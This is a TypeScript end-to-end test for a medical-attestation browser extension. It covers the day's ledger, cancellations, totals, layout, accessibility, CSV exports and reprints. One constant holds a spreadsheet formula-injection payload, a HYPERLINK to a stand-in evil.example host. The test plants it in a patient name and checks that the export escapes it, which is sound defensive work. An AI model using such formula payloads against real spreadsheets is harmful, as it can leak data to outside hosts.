import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CDPSession, Page, WebWorker } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EhrServer } from '../../demo/ehr-server.js';
import { brusselsDate, brusselsMonth, daysOfMonth } from '../../src/shared/domain/calendar.js';
import type { AttestationRecord } from '../../src/shared/domain/receipt.js';
import type { TestPki } from '../../simulator/pki/test-pki.js';
import type { ExtensionBrowser } from '../support/chromium.js';
import { seriousViolations } from '../support/axe.js';
import { contentScriptRegistered, openDisclosure, openPopupFromEhr, sendAndAwaitAcknowledgement, startFlowBench, type FlowBench } from '../support/content-e2e.js';
import { readCsv } from '../support/csv-reader.js';
import { simulatorControlReset } from '../support/simulator-control.js';

/**
 * "Today" as the clinician's and the practice's ledger, in Chromium with the real host and the
 * simulator: two real acknowledged eAttests (one for a patient whose EHR page shows a formula as
 * family name), one cancelled from the ledger; the rows, statuses, amounts and the day's total
 * within the popup's width; the CSV of the day and of the month downloaded and read back; axe on
 * the ledger; reprint opens the supporting document; an insurer's refusal to cancel stays shown.
 */

const HEADER = 'Care date;Acknowledged at;Patient;SSIN;Codes;Amount paid (EUR);Acknowledgement number;Status;Cancelled at;Cancellation reason;Provider NIHII';
/** A hostile EHR page's family name: a spreadsheet would run it as a formula. */
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?x";"MOREAU")';
const LAMBERT = '85041213359';
const MOREAU = '81112531237';

let bench: FlowBench;
let ehr: EhrServer;
let session: ExtensionBrowser;
let worker: WebWorker;
let browserCdp: CDPSession;
let downloadDir: string;

beforeAll(async () => {
  bench = await startFlowBench({ clinician: (testPki: TestPki) => testPki.clinicians.doctorRsa });
  ({ ehr, session } = bench);
  worker = await contentScriptRegistered(session);
  downloadDir = mkdtempSync(join(tmpdir(), 'eattest-ledger-downloads-'));
  browserCdp = await session.browser.target().createCDPSession();
  await browserCdp.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: downloadDir, eventsEnabled: true });
}, 120_000);
afterAll(async () => {
  await bench.close();
  rmSync(downloadDir, { recursive: true, force: true });
});

/** The next download the browser completes: its suggested name and its bytes. */
function nextDownload(): Promise<{ fileName: string; bytes: Buffer }> {
  return new Promise((resolve, reject) => {
    let fileName: string | undefined;
    const begin = (event: { guid: string; suggestedFilename: string }) => {
      fileName = event.suggestedFilename;
    };
    const progress = (event: { guid: string; state: string }) => {
      if (event.state === 'inProgress') return;
      browserCdp.off('Browser.downloadWillBegin', begin);
      browserCdp.off('Browser.downloadProgress', progress);
      if (event.state !== 'completed' || fileName === undefined) reject(new Error(`download ${event.state}`));
      else resolve({ fileName, bytes: readFileSync(join(downloadDir, fileName)) });
    };
    browserCdp.on('Browser.downloadWillBegin', begin);
    browserCdp.on('Browser.downloadProgress', progress);
  });
}

/** Until the background holds a proposal with this family name (the page's change was read). */
async function proposedFamilyName(name: string): Promise<void> {
  await worker.evaluate(async (expected) => {
    for (let attempt = 0; attempt < 200; attempt += 1) {
      type Stored = { proposal?: { patient: { familyName: { value: string | null } } } };
      const stored = Object.values(await chrome.storage.session.get<Record<string, Stored>>(null));
      if (stored.some((entry) => entry.proposal?.patient.familyName.value === expected)) return;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error('the page’s family name was never proposed');
  }, name);
}

/** Writes records into the extension's IndexedDB, as earlier days would have left them. */
async function keepRecords(extensionPage: Page, records: AttestationRecord[]): Promise<void> {
  await extensionPage.evaluate(
    (entries) =>
      new Promise<void>((resolve, reject) => {
        const opening = indexedDB.open('eattest-companion');
        opening.onerror = () => reject(new Error('the ledger cannot be opened'));
        opening.onsuccess = () => {
          const db = opening.result;
          const transaction = db.transaction('attestations', 'readwrite');
          for (const entry of entries) transaction.objectStore('attestations').put(entry);
          transaction.oncomplete = () => {
            db.close();
            resolve();
          };
          transaction.onerror = () => reject(new Error('the ledger cannot be written'));
        };
      }),
    records,
  );
}

/** A copy of a record on another care date (another consultation, hence another key). */
function onDay(record: AttestationRecord, careDate: string, keyDigit: string): AttestationRecord {
  const attestation = { ...record.attestation, careDate, acts: record.attestation.acts.map((act) => ({ ...act, serviceDate: careDate })) };
  return { ...record, consultationKey: keyDigit.repeat(64), careDate, attestation };
}

describe('Today: the day’s ledger, its total and its CSV (Chromium, real host, simulator)', () => {
  it('lists two acknowledged eAttests, cancels one, totals, exports the day and the month, passes axe, reprints', async () => {
    // 1. Julie Lambert from MediSPA: acknowledged (cancelled below).
    const medispa = await session.browser.newPage();
    await medispa.goto(`${ehr.origin}/medispa/patients/p1`);
    const lambertPopup = await openPopupFromEhr(session, medispa);
    const lambertAck = await sendAndAwaitAcknowledgement(lambertPopup);
    await lambertPopup.close();

    // 2. Hélène Moreau (JSIS) from a TableMed page whose family name cell holds a formula.
    const tablemed = await session.browser.newPage();
    await tablemed.goto(`${ehr.origin}/tablemed/consultation-2.html`);
    await tablemed.waitForSelector('table#pat');
    await tablemed.$eval('#pat tr:nth-child(1) > td:nth-child(2)', (cell, name) => (cell.textContent = name), FORMULA_NAME);
    await proposedFamilyName(FORMULA_NAME);
    const popup = await openPopupFromEhr(session, tablemed, 'table#pat');
    const moreauAck = await sendAndAwaitAcknowledgement(popup);
    expect([lambertAck, moreauAck].every((ack) => /^(?:\d{3}|rcam)-1-\d{6}-\d{7}-\d{2}$/.test(ack))).toBe(true);

    // The ledger of the day, one click away under Today: both rows, newest first; Lambert's cancelled from its row (form folded until asked).
    await openDisclosure(popup, 'today');
    await popup.waitForFunction(() => document.querySelectorAll('[data-testid="history-entry"][data-status="acknowledged"]').length === 2, { timeout: 10_000 });
    expect(await popup.$('[data-testid="cancel-form"]')).toBeNull();
    const lambertRow = `[data-testid="history-entry"][data-ssin="${LAMBERT}"]`;
    await popup.click(`${lambertRow} [data-testid="start-cancel"]`);
    await popup.waitForSelector(`${lambertRow} [data-testid="cancel-reason"]`);
    // The form takes the keyboard where it opens (once its effect has run, after the paint).
    await popup.waitForFunction(() => document.activeElement?.getAttribute('data-testid') === 'cancel-reason', { timeout: 5_000 });
    await popup.select(`${lambertRow} [data-testid="cancel-reason"]`, 'C');
    await popup.click(`${lambertRow} [data-testid="confirm-cancel"]`);
    await popup.waitForSelector(`${lambertRow}[data-status="cancelled"]`, { timeout: 30_000 });

    const rows = await popup.$$eval('[data-testid="history-entry"]', (entries) =>
      entries.map((entry) => ({
        ssin: entry.getAttribute('data-ssin'),
        status: entry.getAttribute('data-status'),
        statusWord: entry.querySelector('[data-testid="ledger-status"]')?.textContent,
        amount: entry.querySelector('[data-testid="ledger-amount"]')?.textContent,
        ack: entry.querySelector('[data-testid="history-ack"]')?.textContent,
        patient: entry.querySelector('.ledger-patient')?.textContent,
        ssinShown: entry.querySelector('.ledger-ssin')?.textContent,
      })),
    );
    expect(rows).toEqual([
      { ssin: MOREAU, status: 'acknowledged', statusWord: 'acknowledged', amount: '1.045,00\u00a0€', ack: moreauAck, patient: `${FORMULA_NAME} Hélène`, ssinShown: '81.11.25…' },
      { ssin: LAMBERT, status: 'cancelled', statusWord: 'cancelled', amount: '30,00\u00a0€', ack: lambertAck, patient: 'LAMBERT Julie', ssinShown: '85.04.12…' },
    ]);
    // The day's total: what was acknowledged and not cancelled.
    expect(await popup.$eval('[data-testid="ledger-total"]', (element) => [element.getAttribute('data-cents'), element.lastElementChild?.textContent])).toEqual(['104500', '1.045,00\u00a0€']);
    // Only an acknowledged eAttest can be reprinted or cancelled.
    expect(await popup.$$eval('[data-testid="ledger-reprint"]', (buttons) => buttons.map((button) => button.closest('li')?.getAttribute('data-ssin')))).toEqual([MOREAU]);

    // At the popup's ~400 px (the popup page in a tab of that width; the toolbar popup sizes
    // itself to the rest of its content): the ledger fits, nothing sticks out to the right. The
    // new tab takes the focus, which closes a toolbar popup: the rest happens in this tab.
    const narrow = await session.openExtensionPage('src/popup/index.html');
    await narrow.setViewport({ width: 400, height: 900 });
    await openDisclosure(narrow, 'today');
    await narrow.waitForFunction(() => document.querySelectorAll('[data-testid="history-entry"]').length === 2, { timeout: 10_000 });
    await narrow.click('[data-testid="ledger-export"] summary');
    await narrow.click(`[data-testid="history-entry"][data-ssin="${MOREAU}"] [data-testid="start-cancel"]`);
    await narrow.waitForSelector('[data-testid="cancel-form"]');
    const fit = await narrow.$eval('[data-testid="history"]', (section) => {
      const right = section.getBoundingClientRect().right;
      const overflowing = [...section.querySelectorAll('*')].filter((element) => element.getBoundingClientRect().right > right + 0.5).map((element) => element.className || element.tagName);
      return { right, fitsItsBox: section.scrollWidth <= section.clientWidth, overflowing };
    });
    expect(fit.right).toBeLessThanOrEqual(400);
    expect(fit).toMatchObject({ fitsItsBox: true, overflowing: [] });

    // Accessible: no serious or critical violation on the ledger, its export and a cancel form open.
    expect(await seriousViolations(narrow, '[data-testid="history"]')).toEqual([]);
    await narrow.click(`[data-testid="history-entry"][data-ssin="${MOREAU}"] [data-testid="start-cancel"]`);
    expect(await narrow.$('[data-testid="cancel-form"]')).toBeNull();

    // The day's CSV, downloaded as the clinician does.
    const today = brusselsDate(new Date());
    const dayDownload = nextDownload();
    await narrow.click('[data-testid="export-day"]');
    const day = await dayDownload;
    expect(day.fileName).toBe(`eattest-${today}.csv`);
    expect([...day.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const dayCsv = readCsv(day.bytes.toString('utf8'));
    expect(dayCsv.bom).toBe(true);
    expect(dayCsv.rows[0]?.join(';')).toBe(HEADER);
    const dayRows = dayCsv.rows.slice(1);
    expect(dayRows).toHaveLength(2);
    const lambert = dayRows.find((row) => row[3] === '85.04.12-133.59');
    const moreau = dayRows.find((row) => row[3] === '81.11.25-312.37');
    expect(lambert?.slice(2, 10)).toEqual(['LAMBERT Julie', '85.04.12-133.59', '101076', '30,00', lambertAck, 'cancelled', expect.stringMatching(new RegExp(`^${today} \\d{2}:\\d{2}$`)), 'C']);
    expect(moreau?.slice(4, 8)).toEqual(['102771', '1045,00', moreauAck, 'acknowledged']);
    // The formula from the EHR page is text in the spreadsheet.
    expect(moreau?.[2]).toBe(`'${FORMULA_NAME} Hélène`);
    expect(dayRows.every((row) => row[0] === today && /^\d{2}:\d{2}$/.test(row[1] ?? '') && /^\d-\d{5}-\d{2}-\d{3}$/.test(row[10] ?? ''))).toBe(true);
    expect(await narrow.$eval('[data-testid="export-done"]', (element) => element.getAttribute('data-rows'))).toBe('2');

    // The month's CSV reads the care-date index from the month's first to its last day: records
    // of another day of this month are in it, those of the months around it are not.
    const month = brusselsMonth(new Date());
    const { first, last } = daysOfMonth(month);
    const otherDay = today === first ? `${month}-02` : first;
    const previousMonthEnd = brusselsDate(new Date(Date.parse(`${first}T12:00:00Z`) - 86_400_000));
    const nextMonthStart = brusselsDate(new Date(Date.parse(`${last}T12:00:00Z`) + 86_400_000));
    const stored = await narrow.evaluate(
      () =>
        new Promise<AttestationRecord[]>((resolve, reject) => {
          const opening = indexedDB.open('eattest-companion');
          opening.onerror = () => reject(new Error('the ledger cannot be opened'));
          opening.onsuccess = () => {
            const reading = opening.result.transaction('attestations').objectStore('attestations').getAll();
            reading.onsuccess = () => {
              resolve(reading.result as AttestationRecord[]);
              opening.result.close();
            };
          };
        }),
    );
    const template = stored.find((record) => record.status === 'acknowledged');
    if (template === undefined) throw new Error('no acknowledged record stored');
    await keepRecords(narrow, [onDay(template, previousMonthEnd, 'a'), onDay(template, otherDay, 'b'), onDay(template, nextMonthStart, 'c')]);
    expect(await narrow.$eval('[data-testid="export-month-input"]', (input) => (input as HTMLInputElement).value)).toBe(month);
    const monthDownload = nextDownload();
    await narrow.click('[data-testid="export-month"]');
    const monthFile = await monthDownload;
    expect(monthFile.fileName).toBe(`eattest-${month}.csv`);
    const monthCsv = readCsv(monthFile.bytes.toString('utf8'));
    expect(monthCsv.rows[0]?.join(';')).toBe(HEADER);
    expect(monthCsv.rows.slice(1).map((row) => [row[0], row[7]]).sort()).toEqual(
      [
        [otherDay, 'acknowledged'],
        [today, 'acknowledged'],
        [today, 'cancelled'],
      ].sort(),
    );

    // Reprint opens the supporting document of that eAttest.
    const before = new Set(session.browser.targets());
    await narrow.click(`[data-testid="history-entry"][data-ssin="${MOREAU}"] [data-testid="ledger-reprint"]`);
    const receiptTarget = await session.browser.waitForTarget((target) => !before.has(target) && target.url().includes('/src/receipt/index.html'), { timeout: 10_000 });
    const receipt = await receiptTarget.asPage();
    await receipt.waitForSelector('[data-testid="receipt-ack"]', { timeout: 10_000 });
    expect(await receipt.$eval('[data-testid="receipt-ack"]', (element) => element.textContent)).toBe(moreauAck);
    await receipt.close();

    // An insurer that refuses a cancellation (it no longer knows the number: 141): its words stay
    // in the open form, the eAttest stays acknowledged.
    await simulatorControlReset(bench.simulator.url, bench.pki.caCert, 'attestations');
    const moreauRow = `[data-testid="history-entry"][data-ssin="${MOREAU}"]`;
    await narrow.click(`${moreauRow} [data-testid="start-cancel"]`);
    await narrow.select(`${moreauRow} [data-testid="cancel-reason"]`, 'C');
    await narrow.click(`${moreauRow} [data-testid="confirm-cancel"]`);
    await narrow.waitForSelector(`${moreauRow} [data-testid="cancel-form"] [data-testid="cancel-refused"]`, { timeout: 30_000 });
    expect(await narrow.$$eval(`${moreauRow} [data-testid="cancel-refused"] li`, (items) => items.map((item) => item.getAttribute('data-code')))).toEqual(['141']);
    expect(await narrow.$eval(moreauRow, (element) => element.getAttribute('data-status'))).toBe('acknowledged');
    await narrow.close();
    if (!popup.isClosed()) await popup.close().catch(() => undefined);
    await medispa.close();
    await tablemed.close();
  });
});
